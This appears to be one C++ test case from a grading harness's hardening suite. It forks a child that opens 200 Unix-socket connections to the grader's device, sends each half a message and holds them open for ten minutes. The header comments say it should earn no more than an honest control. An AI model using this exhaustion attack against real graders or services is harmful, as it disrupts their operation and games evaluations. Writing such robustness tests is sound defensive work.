// SPDX-License-Identifier: MIT
// attacks: a child connects to the device by the name in the environment, says half a message, and keeps the connection
// control: honest
// earns: at most its control
// must stay: neighbours, processes
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <cstddef>
#include <cstdlib>
#include <cstring>

#include "kit/attack.h"

static void attack() {
  const char* const device = getenv("WARPGRADE_DEVICE");
  if (device == nullptr || fork() != 0) return;
  for (int i = 0; i < 200; ++i) {
    const int file = socket(AF_UNIX, i % 2 == 0 ? SOCK_STREAM : SOCK_SEQPACKET, 0);
    sockaddr_un address{};
    address.sun_family = AF_UNIX;
    std::strncpy(address.sun_path, device, sizeof address.sun_path - 1);
    if (address.sun_path[0] == '@') address.sun_path[0] = '\0';
    connect(file, reinterpret_cast<sockaddr*>(&address),
            static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + std::strlen(device)));
    send(file, "\x10\0\0\0half", 8, MSG_NOSIGNAL);
  }
  sleep(600);
  _exit(0);
}

#include "kit/attack_first.cu"
